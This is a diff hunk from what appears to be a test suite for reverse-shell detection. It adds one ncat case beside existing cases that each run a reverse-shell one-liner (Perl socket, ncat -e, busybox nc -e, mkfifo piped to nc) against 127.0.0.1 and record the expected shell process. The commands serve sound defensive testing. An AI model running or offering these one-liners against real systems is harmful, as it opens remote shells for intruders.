@@ -66,6 +66,8 @@ open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")
     "nc.traditional")
   out("ncat -e", "ncat -e /bin/bash 127.0.0.1 $PORT; true", { ["process.name"] = "bash" }, "ncat")
   out("ncat --sh-exec", "ncat --sh-exec \"exec /bin/bash -i\" 127.0.0.1 $PORT; true", { ["process.name"] = "bash" }, "ncat")
+  out("a shell below a shell that was given a command", "ncat --sh-exec 'sh; true' 127.0.0.1 $PORT; true",
+    { ["process.name"] = "dash" }, "ncat")
   out("busybox nc -e", "busybox nc 127.0.0.1 $PORT -e /bin/sh; true", { ["process.name"] = "dash" }, "busybox nc.traditional")
   out("mkfifo and nc", "cd $DIR; mkfifo f; cat f | sh -i 2>&1 | nc.openbsd -N 127.0.0.1 $PORT >f; true",
     {}, "nc.openbsd")
